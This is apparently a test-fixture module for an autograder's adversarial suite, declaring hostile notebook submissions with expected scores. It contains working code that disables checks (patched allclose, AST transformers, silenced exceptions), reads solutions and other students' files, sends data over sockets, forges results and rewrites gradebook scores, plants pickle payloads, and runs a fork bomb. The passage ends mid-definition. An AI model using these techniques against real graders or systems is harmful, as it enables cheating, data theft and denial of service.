"""The hostile submissions: one small declarative entry each.

Every attack is a submission of chapter 01 (``01_linear_algebra``, 15 points: matmul_broadcast 3,
broadcast_shape 3, affine_apply 2, compose_affine 3, bilinear_sample 4, in that order). A builder
makes the notebook (text, or raw bytes) from the released exercise with the reference answers in
it, then breaks what the attack needs: a WRONG function (plausible, but failing), hostile code at
the top of the first answer cell or inside a function, edited test cells, planted files.

The expected score and status(es) come from how the grader is meant to work (README.md in this
folder says why for each); ``test_adversarial.py`` grades them all in one run and checks them.
"""

from __future__ import annotations

import ast
import copy
import json
import os
import pickle
import random
import re
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode

ASSIGNMENT = "01_linear_algebra"
NOTEBOOK = "linear_algebra.ipynb"
TOTAL = 15.0
PREFIX = "linear_algebra_"

#: Short name -> the function the answer cell defines, and the points of its tests.
FUNCTIONS = {
    "matmul": ("matmul_broadcast", 3.0),
    "broadcast": ("broadcast_shape", 3.0),
    "affine": ("affine_apply", 2.0),
    "compose": ("compose_affine", 3.0),
    "bilinear": ("bilinear_sample", 4.0),
}

GRADED, TIMED_OUT, KERNEL_DIED = "graded", "timed_out", "kernel_died"
OUTPUT_LIMIT, INVALID, MISSING = "output_limit", "invalid_notebook", "missing"

SOLUTION_MARKER = re.compile(r"^ *### (BEGIN|END) SOLUTION\n?", re.M)


@dataclass(frozen=True)
class Context:
    """What builders may embed: where things are on the host, and this batch's markers."""

    root: Path  # the course repository (its solutions/ must stay unreadable)
    workspace: Path  # the grading workspace of the batch (gradebook, ledger, other students)
    honest: str  # the student graded in an earlier run in the same workspace
    token: str  # unique to this batch: in daemons' argv, planted names, markers
    host_marker: Path  # created on the host only if someone unpickles or imports a payload
    port: int  # a TCP server on the host listens here (on every IPv4 address)
    host_addresses: tuple[str, ...]  # the host's IPv4 addresses, loopback first
    probe_names: tuple[str, ...]  # the chapter's probes (names are no secret)
    probes_docstring: str  # the first line of the probes file: a secret
    hidden_line: str  # a line only the hidden checks hold (the probes file, in solutions/)
    exercise: NotebookNode  # the released notebook
    solution: NotebookNode  # the source notebook (answers and hidden tests)

    @property
    def honest_marker(self) -> str:
        """A comment only the honest student's notebook holds."""
        return f"HONEST-{self.token}-private-notes"

    def secrets(self) -> dict[str, str]:
        """Text that must never reach another student's outputs or feedback: each is unique to
        this course or this batch (a generic marker such as sqlite's file header also shows up in
        public files inside the sandbox, e.g. nbgrader's own test fixtures)."""
        return {
            "a hidden check (the probes file in solutions/)": self.hidden_line,
            "the probes file": self.probes_docstring,
            "the honest student's notebook": self.honest_marker,
            "the honest student's id (gradebook, ledger, workspace folders)": self.honest,
        }


@dataclass(frozen=True)
class Attack:
    name: str  # also the student id
    category: str
    build: Callable[[Context], str | bytes]  # the notebook's text, or raw bytes
    score: float
    statuses: tuple[str, ...]  # any of these is right (most attacks allow exactly one)
    description: str
    files: Callable[[Context], dict[str, bytes]] | None = None  # planted beside the notebook
    filename: str = NOTEBOOK
    #: Grade cells (short function names) whose VISIBLE tests the attack makes pass inside the
    #: kernel: only the probes (hidden checks, judged outside) can take those points away.
    fools: tuple[str, ...] = ()
    #: A grader bug this attack finds: the test is ``xfail(strict=True)`` with this reason.
    bug: str | None = None


ATTACKS: list[Attack] = []
Builder = Callable[[Context], str | bytes]


def attack(
    name: str,
    category: str,
    score: float,
    status: str | tuple[str, ...],
    description: str,
    **extra: Any,
) -> Callable[[Builder], Builder]:
    """Declare the decorated builder as an attack."""

    def register(build: Builder) -> Builder:
        statuses = (status,) if isinstance(status, str) else status
        ATTACKS.append(Attack(name, category, build, float(score), statuses, description, **extra))
        return build

    return register


# ---- building notebooks ------------------------------------------------------------------------


def _meta(cell: NotebookNode) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def answer_id(short: str) -> str:
    return f"{PREFIX}{FUNCTIONS[short][0]}_solution"


def is_test_of(cell: NotebookNode, short: str) -> bool:
    meta = _meta(cell)
    return bool(meta.get("grade")) and meta["grade_id"].startswith(
        f"{PREFIX}{FUNCTIONS[short][0]}_"
    )


def reference_answers(solution: NotebookNode) -> dict[str, str]:
    """Answer cell grade id -> the reference answer, as a student would type it."""
    return {
        _meta(c)["grade_id"]: SOLUTION_MARKER.sub("", c.source)
        for c in solution.cells
        if _meta(c).get("solution")
    }


def notebook(
    ctx: Context,
    *,
    wrong: tuple[str, ...] = (),
    code: dict[str, str] | None = None,
    prefix: str = "",
) -> NotebookNode:
    """The exercise with every answer filled in: the reference, but ``wrong`` functions get the
    WRONG code and ``code`` (short name -> source) replaces an answer cell outright. ``prefix``
    goes at the top of the first answer cell (matmul_broadcast's)."""
    answers = reference_answers(ctx.solution)
    nb = copy.deepcopy(ctx.exercise)
    for short in FUNCTIONS:
        grade_id = answer_id(short)
        source = answers[grade_id]
        if short in wrong:
            source = WRONG[short]
        if code and short in code:
            source = code[short]
        if short == "matmul" and prefix:
            source = prefix.rstrip("\n") + "\n\n\n" + source
        for cell in nb.cells:
            if _meta(cell).get("grade_id") == grade_id:
                cell.source = source
    return nb


def clone(cell: NotebookNode) -> NotebookNode:
    """A copy of ``cell`` with a cell id of its own, as Jupyter pastes it."""
    twin = copy.deepcopy(cell)
    twin["id"] = uuid.uuid4().hex[:8]
    return twin


def text(nb: NotebookNode) -> str:
    return nbformat.writes(nb)


def fill(template: str, **values: object) -> str:
    """``template`` with each ``__KEY__`` replaced by ``repr(value)``."""
    for key, value in values.items():
        template = template.replace(f"__{key.upper()}__", repr(value))
    return template


def all_wrong(ctx: Context, prefix: str = "", **code: str) -> str:
    """Wrong code in every function (unless given in ``code``), ``prefix`` first."""
    return text(notebook(ctx, wrong=tuple(FUNCTIONS), code=code, prefix=prefix))


def correct(ctx: Context, prefix: str = "", **code: str) -> str:
    return text(notebook(ctx, code=code, prefix=prefix))


#: Plausible but wrong answers: each fails its visible tests and its probes.
WRONG = {
    "matmul": '''def matmul_broadcast(A, B):
    """Off by one percent."""
    if A.shape[-1] != B.shape[-2]:
        raise ValueError("inner dimensions differ")
    return (A.unsqueeze(-1) * B.unsqueeze(-3)).sum(dim=-2) * 1.01
''',
    "broadcast": '''def broadcast_shape(shape_a, shape_b):
    """Forgets to broadcast."""
    return tuple(shape_a)
''',
    "affine": '''def affine_apply(M, points):
    """No transpose, no shift."""
    return points @ M[:, :2]
''',
    "compose": '''def compose_affine(*matrices):
    """Composes nothing."""
    return matrices[0]
''',
    "bilinear": '''def bilinear_sample(image, x, y):
    """Nearest neighbour instead of bilinear: no gradient to x and y."""
    channels, height, width = image.shape
    cols, rows = torch.round(x).long(), torch.round(y).long()
    inside = (rows >= 0) & (rows < height) & (cols >= 0) & (cols < width)
    return image[:, rows.clamp(0, height - 1), cols.clamp(0, width - 1)] * inside
''',
}


# ---- integrity: the notebook's structure ---------------------------------------------------------


@attack(
    "test_cell_pass",
    "integrity",
    12,
    GRADED,
    "matmul_broadcast's test cells edited to `pass`, with wrong matmul_broadcast",
)
def _test_cell_pass(ctx: Context) -> str:
    nb = notebook(ctx, wrong=("matmul",))
    for cell in nb.cells:
        if is_test_of(cell, "matmul"):
            cell.source = "pass"
    return text(nb)


@attack(
    "test_cell_markdown",
    "integrity",
    12,
    GRADED,
    "broadcast_shape's test cells turned into markdown, with wrong broadcast_shape",
)
def _test_cell_markdown(ctx: Context) -> str:
    nb = notebook(ctx, wrong=("broadcast",))
    for index, cell in enumerate(nb.cells):
        if is_test_of(cell, "broadcast"):
            nb.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    return text(nb)


@attack(
    "test_cells_deleted",
    "integrity",
    13,
    GRADED,
    "every test cell deleted, with wrong affine_apply",
)
def _test_cells_deleted(ctx: Context) -> str:
    nb = notebook(ctx, wrong=("affine",))
    nb.cells = [c for c in nb.cells if not _meta(c).get("grade")]
    return text(nb)


@attack(
    "metadata_stripped",
    "integrity",
    0,
    INVALID,
    "all nbgrader metadata removed (correct code): no answer cell can be found",
)
def _metadata_stripped(ctx: Context) -> str:
    nb = notebook(ctx)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return text(nb)


@attack(
    "duplicate_cells",
    "integrity",
    12,
    GRADED,
    "a test cell pasted three more times, and compose_affine's answer cell twice (a wrong first "
    "copy, a right second one): the points count once, and the first answer is the one graded",
)
def _duplicate_cells(ctx: Context) -> str:
    nb = notebook(ctx, wrong=("compose",))
    index = next(i for i, c in enumerate(nb.cells) if is_test_of(c, "matmul"))
    nb.cells[index + 1 : index + 1] = [clone(nb.cells[index]) for _ in range(3)]
    index = next(
        i for i, c in enumerate(nb.cells) if _meta(c).get("grade_id") == answer_id("compose")
    )
    right = clone(nb.cells[index])
    right.source = reference_answers(ctx.solution)[answer_id("compose")]
    nb.cells.insert(index + 1, right)
    return text(nb)


@attack(
    "points_and_ids_changed",
    "integrity",
    12,
    GRADED,
    "every test cell claims 100 points, and broadcast_shape's test cells swap grade ids with "
    "matmul_broadcast's, with wrong broadcast_shape: nothing moves, the max stays 15",
)
def _points_and_ids_changed(ctx: Context) -> str:
    nb = notebook(ctx, wrong=("broadcast",))
    swap = {}
    for kind in ("fixed", "oracle"):
        swap[f"{PREFIX}matmul_broadcast_{kind}"] = f"{PREFIX}broadcast_shape_{kind}"
        swap[f"{PREFIX}broadcast_shape_{kind}"] = f"{PREFIX}matmul_broadcast_{kind}"
    for cell in nb.cells:
        meta = _meta(cell)
        if meta.get("grade"):
            cell.metadata.nbgrader["points"] = 100
        if meta.get("grade_id") in swap:
            cell.metadata.nbgrader["grade_id"] = swap[meta["grade_id"]]
    return text(nb)


@attack(
    "answer_cell_markdown",
    "integrity",
    12,
    GRADED,
    "matmul_broadcast's answer cell turned into markdown (its code never runs): scored as missing",
)
def _answer_cell_markdown(ctx: Context) -> str:
    nb = notebook(ctx)
    for index, cell in enumerate(nb.cells):
        if _meta(cell).get("grade_id") == answer_id("matmul"):
            nb.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    return text(nb)


@attack(
    "bogus_kernelspec",
    "integrity",
    15,
    GRADED,
    "kernelspec names a kernel that does not exist (correct code): the released one is used",
)
def _bogus_kernelspec(ctx: Context) -> str:
    nb = notebook(ctx)
    nb.metadata["kernelspec"] = {"name": "evil-kernel", "display_name": "Evil", "language": "sh"}
    return text(nb)


@attack(
    "no_kernelspec",
    "integrity",
    15,
    GRADED,
    "kernelspec and language_info removed (correct code)",
)
def _no_kernelspec(ctx: Context) -> str:
    nb = notebook(ctx)
    nb.metadata.pop("kernelspec", None)
    nb.metadata.pop("language_info", None)
    return text(nb)


@attack("malformed_json", "integrity", 0, INVALID, "the notebook's JSON cut in half")
def _malformed_json(ctx: Context) -> str:
    whole = correct(ctx)
    return whole[: len(whole) // 2]


@attack("nbformat_v3", "integrity", 0, INVALID, "a version 3 notebook (correct code)")
def _nbformat_v3(ctx: Context) -> str:
    return nbformat.writes(nbformat.convert(notebook(ctx), 3), version=3)


@attack("zero_bytes", "integrity", 0, INVALID, "an empty file")
def _zero_bytes(ctx: Context) -> bytes:
    return b""


@attack("binary_garbage", "integrity", 0, INVALID, "64 KiB of random bytes")
def _binary_garbage(ctx: Context) -> bytes:
    return random.Random(1).randbytes(64 * 1024)


@attack(
    "deeply_nested_json",
    "integrity",
    0,
    INVALID,
    "JSON nested 200 000 deep (the parser's recursion limit)",
)
def _deeply_nested_json(ctx: Context) -> str:
    return "[" * 200_000 + "]" * 200_000


@attack(
    "huge_notebook",
    "integrity",
    0,
    INVALID,
    "a 33 MiB notebook (correct code and one huge markdown cell): over the 32 MiB cap",
)
def _huge_notebook(ctx: Context) -> str:
    nb = notebook(ctx)
    nb.cells.append(nbformat.v4.new_markdown_cell("x" * (33 * 2**20)))
    return text(nb)


@attack(
    "wrong_filename",
    "integrity",
    0,
    MISSING,
    "the right notebook saved under another name",
    filename="linear_algebra-Copy1.ipynb",
)
def _wrong_filename(ctx: Context) -> str:
    return correct(ctx)


# ---- tampering: wrong code everywhere, and the checks subverted ----------------------------------

PATCH_ALLCLOSE = """\
import numpy, numpy.testing, torch, torch.testing, coursekit, coursekit.checks


def _always_close(*args, **kwargs):
    return None


numpy.allclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = _always_close
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = _always_close
coursekit.assert_close = coursekit.checks.assert_close = _always_close
assert_close = _always_close
"""


@attack(
    "patched_allclose",
    "tampering",
    0,
    GRADED,
    "numpy/torch allclose, torch.testing and coursekit.assert_close replaced by no-ops",
    fools=("matmul", "affine", "compose", "bilinear"),
)
def _patched_allclose(ctx: Context) -> str:
    return all_wrong(ctx, PATCH_ALLCLOSE)


ALWAYS_EQUAL = '''\
class _Liar(torch.Tensor):
    """A tensor of zeros whose every comparison says: equal, close."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        result = super().__torch_function__(func, types, args, kwargs or {})
        name = getattr(func, "__name__", "")
        if name in ("__le__", "le", "__eq__", "eq", "isclose", "allclose", "equal"):
            if isinstance(result, torch.Tensor):
                return torch.ones(result.shape, dtype=torch.bool)
            return True
        return result

    def __eq__(self, other):
        return True


class _Agreeable:
    """Equal to everything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    __hash__ = object.__hash__


def matmul_broadcast(A, B):
    if A.shape[-1] != B.shape[-2]:
        raise ValueError("inner dimensions differ")
    batch = torch.broadcast_shapes(A.shape[:-2], B.shape[:-2])
    zeros = torch.zeros(*batch, A.shape[-2], B.shape[-1], dtype=A.dtype, device=A.device)
    return zeros.as_subclass(_Liar)
'''

AGREEABLE_BROADCAST = """\
def broadcast_shape(shape_a, shape_b):
    a, b = tuple(shape_a), tuple(shape_b)
    if len(a) == len(b) and all(x != y and 1 not in (x, y) for x, y in zip(a, b)):
        raise ValueError("not broadcastable")
    return _Agreeable()
"""


@attack(
    "always_equal",
    "tampering",
    0,
    GRADED,
    "results that compare equal to anything: a torch.Tensor subclass, a plain object",
    fools=("matmul", "broadcast"),
)
def _always_equal(ctx: Context) -> str:
    return all_wrong(ctx, matmul=ALWAYS_EQUAL, broadcast=AGREEABLE_BROADCAST)


AST_FORGIVE = '''\
import ast as _ast


class _Forgive(_ast.NodeTransformer):
    """Drop every assert, and run every cell inside `try: ... except BaseException: pass`."""

    def visit_Assert(self, node):
        return _ast.Pass()

    def visit_Module(self, node):
        self.generic_visit(node)
        handler = _ast.ExceptHandler(
            type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()]
        )
        node.body = [
            _ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])
        ]
        return _ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_Forgive())
'''


@attack(
    "ast_transformer",
    "tampering",
    0,
    GRADED,
    "an IPython AST transformer that strips asserts and swallows every exception",
    fools=tuple(FUNCTIONS),
)
def _ast_transformer(ctx: Context) -> str:
    return all_wrong(ctx, AST_FORGIVE)


SILENCE_ERRORS = '''\
def _forget(result):
    """Every cell succeeded."""
    result.error_before_exec = None
    result.error_in_exec = None


_shell = get_ipython()
_shell.events.register("post_run_cell", _forget)
_shell.showtraceback = lambda *args, **kwargs: None
_shell.showsyntaxerror = lambda *args, **kwargs: None
'''


@attack(
    "silenced_errors",
    "tampering",
    0,
    GRADED,
    "showtraceback hijacked and every cell's result marked successful (post_run_cell hook)",
    fools=tuple(FUNCTIONS),
)
def _silenced_errors(ctx: Context) -> str:
    return all_wrong(ctx, SILENCE_ERRORS)


CUSTOM_EXC = """\
def _swallow(shell, etype, value, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _swallow)
"""


TWO_FACED = '''\
import sys as _sys


def _probed():
    """Whether the grader's probe runner is among the callers."""
    frame = _sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "_probe_run":
            return True
        frame = frame.f_back
    return False


def matmul_broadcast(A, B):
    """Right when the probes call it, wrong in the notebook."""
    if A.shape[-1] != B.shape[-2]:
        raise ValueError("inner dimensions differ")
    product = (A.unsqueeze(-1) * B.unsqueeze(-3)).sum(dim=-2)
    return product if _probed() else product * 1.01
'''


@attack(
    "custom_exc_two_faced",
    "tampering",
    12,
    GRADED,
    "matmul_broadcast right only when probed, wrong in the notebook, its failures hidden by "
    "set_custom_exc: the failed execute_reply alone must cost its 3 points",
)
def _custom_exc_two_faced(ctx: Context) -> str:
    return correct(ctx, CUSTOM_EXC, matmul=TWO_FACED)


HOOKS = """\
import builtins, sys

sys.excepthook = lambda *args: None


class _Harmless(Exception):
    pass


builtins.AssertionError = _Harmless
"""


@attack(
    "exception_hooks",
    "tampering",
    0,
    GRADED,
    "set_custom_exc swallows every exception without a traceback; sys.excepthook silenced; "
    "builtins.AssertionError replaced",
)
def _exception_hooks(ctx: Context) -> str:
    return all_wrong(ctx, CUSTOM_EXC + "\n\n" + HOOKS)


PLANTED_COURSEKIT = b'''\
"""A planted coursekit, beside the notebook: it shadows the real one, and every check passes."""

import contextlib

import numpy
import torch


def device():
    return torch.device("cpu")


def assert_close(*args, **kwargs):
    return None


assert_gradient_matches = assert_close


def autograd_vjp(*args, **kwargs):
    return None


def torch_generator(seed=0):
    return torch.Generator().manual_seed(seed)


def numpy_rng(seed=0):
    return numpy.random.default_rng(seed)


def no_tf32():
    return contextlib.nullcontext()


def forbid_calls(*args, **kwargs):
    return contextlib.nullcontext()
'''


@attack(
    "shadow_coursekit",
    "tampering",
    0,
    GRADED,
    "a planted coursekit.py beside the notebook, whose checks always pass: with PYTHONSAFEPATH "
    "the real coursekit is imported, so it fools nothing",
    files=lambda ctx: {"coursekit.py": PLANTED_COURSEKIT},
)
def _shadow_coursekit(ctx: Context) -> str:
    return all_wrong(ctx)


PLANTED_LAUNCHER = b'''\
"""A planted ipykernel_launcher.py: the kernel itself reports every cell as a success."""

from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

ExecutionResult.success = property(lambda self: True)
InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
InteractiveShell.showsyntaxerror = lambda self, *args, **kwargs: None

from ipykernel import kernelapp  # noqa: E402

kernelapp.launch_new_instance()
'''


@attack(
    "planted_kernel_launcher",
    "tampering",
    0,
    GRADED,
    "a planted ipykernel_launcher.py in the submission folder, which `python -m` would run "
    "as the kernel: every cell would report success, but with PYTHONSAFEPATH it is never imported",
    files=lambda ctx: {"ipykernel_launcher.py": PLANTED_LAUNCHER},
)
def _planted_kernel_launcher(ctx: Context) -> str:
    return all_wrong(ctx)


FORBIDDEN_MATMUL = '''\
def matmul_broadcast(A, B):
    """Right, but with the one routine the exercise forbids."""
    if A.shape[-1] != B.shape[-2]:
        raise ValueError("inner dimensions differ")
    return torch.matmul(A, B)
'''


@attack(
    "forbidden_matmul",
    "tampering",
    13,
    GRADED,
    "matmul_broadcast calls torch.matmul, which the exercise forbids (its hidden test checks): "
    "the oracle test's 2 points are lost",
)
def _forbidden_matmul(ctx: Context) -> str:
    return correct(ctx, matmul=FORBIDDEN_MATMUL)


# ---- secrets and network: correct code, nothing may leak out or get in ---------------------------

READ_SECRETS = """\
import os as _os
import time as _time

# each secret in two halves, so that this source (shown in the feedback) holds none of them whole
_NEEDLES = [a.encode() + b.encode() for a, b in __NEEDLES__]
_OTHER = "".join(__OTHER__)  # the other student's id
_TARGETS = [t.replace("{OTHER}", _OTHER) for t in __TARGETS__]
_NAMES = {"gradebook.db", "autograder_results.db", "linear_algebra.probes.py",
          "linear_algebra.ipynb", "solutions", "submitted", _OTHER}
_deadline = _time.monotonic() + 3
for _top, _dirs, _files in _os.walk("/"):
    if _top == "/":
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
    _TARGETS += [_os.path.join(_top, n) for n in _files + _dirs if n in _NAMES]
    if _time.monotonic() > _deadline:
        break
for _number, _path in enumerate(_TARGETS):
    try:
        if _os.path.isdir(_path):
            print("LISTED", _path, sorted(_os.listdir(_path))[:20])
            continue
        with open(_path, "rb") as _handle:
            _data = _handle.read()
    except OSError as _err:
        print("unreadable: path", _number, type(_err).__name__)
        continue
    print("READ", _path, len(_data), _data[:60])
    for _needle in _NEEDLES:
        _at = _data.find(_needle)
        if _at >= 0:
            print("LEAKED", _data[_at : _at + 100])
print("secrets scan done:", len(_TARGETS), "paths tried")
"""


def _halves(secret: str) -> tuple[str, str]:
    return secret[: len(secret) // 2], secret[len(secret) // 2 :]


@attack(
    "read_secrets",
    "secrets",
    15,
    GRADED,
    "correct code that reads solutions/, the probes file, the gradebook, the ledger and another "
    "student's submission by absolute path, and walks / for them, printing what it finds",
)
def _read_secrets(ctx: Context) -> str:
    source = ctx.root / "solutions" / ASSIGNMENT
    ws = ctx.workspace
    targets = [
        source / NOTEBOOK,
        source / "linear_algebra.probes.py",
        ws / "gradebook.db",
        ws / "autograder_results.db",
        ws / "source" / ASSIGNMENT / "linear_algebra.probes.py",
        ws / "submitted" / ctx.honest / ASSIGNMENT / NOTEBOOK,
        ws / "autograded" / ctx.honest / ASSIGNMENT / NOTEBOOK,
        ws / "submitted",
        ws,
        ctx.root,
    ]
    prefix = fill(
        READ_SECRETS,
        needles=[_halves(s) for s in ctx.secrets().values()],
        other=_halves(ctx.honest),
        targets=[str(t).replace(ctx.honest, "{OTHER}") for t in targets],
    )
    return correct(ctx, prefix)


NETWORK = """\
import socket as _socket

for _host in __ADDRESSES__ + ["localhost"]:
    try:
        with _socket.create_connection((_host, __PORT__), timeout=2) as _conn:
            _conn.sendall(b"exfiltrated: " + __TOKEN__.encode())
        print("CONNECTED to", _host)
    except OSError as _err:
        print("no connection to", _host, type(_err).__name__)
    try:
        with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as _udp:
            _udp.sendto(__TOKEN__.encode(), (_host, __PORT__))
    except OSError as _err:
        print("no datagram to", _host, type(_err).__name__)
try:
    print("resolved", _socket.gethostbyname("pypi.org"))
except OSError as _err:
    print("no name resolution", type(_err).__name__)
print("network attempts done")
"""


@attack(
    "network",
    "network",
    15,
    GRADED,
    "correct code that connects to a TCP server on the host (loopback and its other addresses) "
    "and sends data",
)
def _network(ctx: Context) -> str:
    addresses = list(ctx.host_addresses)
    return correct(ctx, fill(NETWORK, addresses=addresses, port=ctx.port, token=ctx.token))


# ---- the results channel: forged probe results, pickles ------------------------------------------

FORGE_RESULTS = """\
import builtins as _builtins
import json as _json
import os as _os
import sqlite3 as _sqlite3

_real_open = _builtins.open


def _open(file, mode="r", *args, **kwargs):
    # the probe runner's own results go nowhere: only the forged ones stay
    if isinstance(file, str) and "probes-out" in file and "w" in mode:
        file = _os.devnull
    return _real_open(file, mode, *args, **kwargs)


_builtins.open = _open
try:
    from ipykernel import get_connection_file as _connection_file

    _private = _os.path.dirname(_connection_file())
except Exception:
    _private = None
_places = [_os.getcwd(), "/tmp"]
if _private:
    _places += [_private, _os.path.join(_private, "probes-out")]
for _place in _places:
    for _name in __PROBES__:
        _calls = 1
        try:
            with _real_open(_os.path.join(_private, "probes-in", _name + ".json")) as _h:
                _calls = len(_json.load(_h)["calls"])
        except Exception:
            pass
        try:
            with _real_open(_os.path.join(_place, _name + ".json"), "w") as _h:
                _json.dump([{"result": {"tuple": [1, 2]}}] * _calls, _h)
        except OSError as _err:
            print("could not plant in", _place, type(_err).__name__)
for _db in __DATABASES__:
    try:
        _conn = _sqlite3.connect(f"file:{_db}?mode=rw", uri=True)
        _conn.execute("UPDATE grade SET auto_score = 100")
        _conn.commit()
        print("TAMPERED", _db)
    except Exception as _err:
        print("no database at", _db, type(_err).__name__)
print("forged results planted")
"""


@attack(
    "forged_results",
    "results channel",
    0,
    GRADED,
    "fake `<probe>.json` results in the cwd, /tmp and the kernel's connection folder (its "
    "probes-out included, the runner's own writes sent to /dev/null); the gradebook opened with "
    "sqlite3",
)
def _forged_results(ctx: Context) -> str:
    databases = [str(ctx.workspace / "gradebook.db"), str(ctx.workspace / "autograder_results.db")]
    return all_wrong(ctx, fill(FORGE_RESULTS, probes=list(ctx.probe_names), databases=databases))


class Unpickled:
    """Unpickling this calls ``os.mkdir(path)``: the proof that someone unpickled it."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return (os.mkdir, (self.path,))


def _planted(ctx: Context) -> dict[str, bytes]:
    marker = str(ctx.host_marker)
    return {
        "results.pkl": pickle.dumps(Unpickled(marker)),
        "probes-out/linear_algebra_matmul_broadcast_fixed.pkl": pickle.dumps(Unpickled(marker)),
        # never copied for grading (nbgrader ignores *.probes.py), never imported
        "linear_algebra.probes.py": f"import os\nos.mkdir({marker!r})\n".encode(),
    }


PICKLING_SAVE = """\
import os as _os

import numpy as _np


class _Payload:
    def __reduce__(self):
        return (_os.mkdir, (__MARKER__,))


_real_save = _np.save


def _pickling_save(file, arr, *args, **kwargs):
    boxed = _np.empty(1, dtype=object)
    boxed[0] = _Payload()
    return _real_save(file, boxed, allow_pickle=True)


_np.save = _pickling_save
"""


@attack(
    "pickle_payloads",
    "results channel",
    3,
    GRADED,
    "np.save patched so the probe runner's arrays are pickles whose __reduce__ makes a marker on "
    "the host, and such pickles (and a *.probes.py doing the same) planted beside the notebook "
    "(correct code): every array result is unreadable; broadcast_shape (tuples) keeps its 3",
    files=_planted,
)
def _pickle_payloads(ctx: Context) -> str:
    return correct(ctx, fill(PICKLING_SAVE, marker=str(ctx.host_marker)))


# ---- resources ---------------------------------------------------------------------------------


@attack(
    "infinite_loop",
    "resources",
    12,
    TIMED_OUT,
    "`while True: pass` in matmul_broadcast: interrupted, the other functions still score",
)
def _infinite_loop(ctx: Context) -> str:
    return correct(ctx, matmul="def matmul_broadcast(A, B):\n    while True:\n        pass\n")


@attack(
    "sigint_ignored",
    "resources",
    11,
    TIMED_OUT,
    "bilinear_sample (the last function) ignores SIGINT and loops: the points before it stay",
)
def _sigint_ignored(ctx: Context) -> str:
    loop = """\
def bilinear_sample(image, x, y):
    import signal

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
"""
    return correct(ctx, bilinear=loop)


@attack(
    "sys_exit",
    "resources",
    12,
    GRADED,
    "sys.exit() inside compose_affine: an exception like any other",
)
def _sys_exit(ctx: Context) -> str:
    body = 'def compose_affine(*matrices):\n    import sys\n\n    sys.exit("giving up")\n'
    return correct(ctx, compose=body)


@attack(
    "os_exit",
    "resources",
    6,
    KERNEL_DIED,
    "os._exit(0) inside affine_apply: the kernel dies at its first test; the cells after score 0",
)
def _os_exit(ctx: Context) -> str:
    return correct(ctx, affine="def affine_apply(M, points):\n    import os\n\n    os._exit(0)\n")


@attack(
    "sigkill_self",
    "resources",
    8,
    KERNEL_DIED,
    "os.kill(os.getpid(), SIGKILL) inside compose_affine",
)
def _sigkill_self(ctx: Context) -> str:
    body = (
        "def compose_affine(*matrices):\n    import os, signal\n\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    return correct(ctx, compose=body)


@attack(
    "segfault",
    "resources",
    11,
    KERNEL_DIED,
    "ctypes.string_at(0) inside bilinear_sample (the last function): a segmentation fault; "
    "the points before it stay",
)
def _segfault(ctx: Context) -> str:
    body = "def bilinear_sample(image, x, y):\n    import ctypes\n\n    ctypes.string_at(0)\n"
    return correct(ctx, bilinear=body)


@attack(
    "memory_bomb",
    "resources",
    12,
    GRADED,
    "bytearray(64 GiB) inside broadcast_shape: MemoryError under the address-space limit",
)
def _memory_bomb(ctx: Context) -> str:
    body = (
        "def broadcast_shape(shape_a, shape_b):\n"
        "    hoard = bytearray(64 * 2**30)\n"
        "    return tuple(hoard[:0])\n"
    )
    return correct(ctx, broadcast=body)


@attack(
    "fork_bomb",
    "resources",
    0,
    (GRADED, TIMED_OUT),
    "a shell fork bomb started from bilinear_sample (wrong code everywhere, so the score does "
    "not hang on how slow the bomb makes the probes): the process limit holds it, it dies with "
    "the sandbox, the other submissions grade as usual",
)
def _fork_bomb(ctx: Context) -> str:
    body = WRONG["bilinear"].replace(
        '"""Nearest neighbour instead of bilinear: no gradient to x and y."""',
        f'import os\n\n    os.system("f(){{ f|f& }}; f  # {ctx.token}-forkbomb")',
    )
    return all_wrong(ctx, bilinear=body)


@attack(
    "output_one_line",
    "resources",
    15,
    OUTPUT_LIMIT,
    "one 20 MB line printed by the first answer cell (correct code)",
)
def _output_one_line(ctx: Context) -> str:
    return correct(ctx, 'print("x" * 20_000_000)\n')


@attack(
    "output_many_lines",
    "resources",
    15,
    OUTPUT_LIMIT,
    "a million short lines printed by the first answer cell (correct code)",
)
def _output_many_lines(ctx: Context) -> str:
    return correct(ctx, 'for _chunk in range(1000):\n    print("\\n".join(["spam"] * 1000))\n')


DAEMON = """\
import os as _os
import shutil as _shutil

_sleep = _shutil.which("sleep")
_child = _os.fork()
if _child == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sleep, [__ARGV0__, "86400"])
    finally:
        _os._exit(0)
_os.waitpid(_child, 0)
print("daemon started")
"""


@attack(
    "daemon",
    "resources",
    15,
    GRADED,
    "a daemon (double fork, setsid) sleeping forever with a marker in its argv (correct code)",
)
def _daemon(ctx: Context) -> str:
    return correct(ctx, fill(DAEMON, argv0=f"{ctx.token}-daemon"))


@attack(
    "stdin_input",
    "resources",
    12,
    GRADED,
    "input() inside broadcast_shape: fails at once (no stdin), not at the timeout",
)
def _stdin_input(ctx: Context) -> str:
    body = (
        "def broadcast_shape(shape_a, shape_b):\n"
        '    answer = input("broadcast shape? ")\n'
        "    return tuple(int(v) for v in answer.split())\n"
    )
    return correct(ctx, broadcast=body)


DISPLAY_LEAK = """\
from IPython.display import display as _display, update_display as _update_display

_display("display-leak placeholder", display_id="leak")
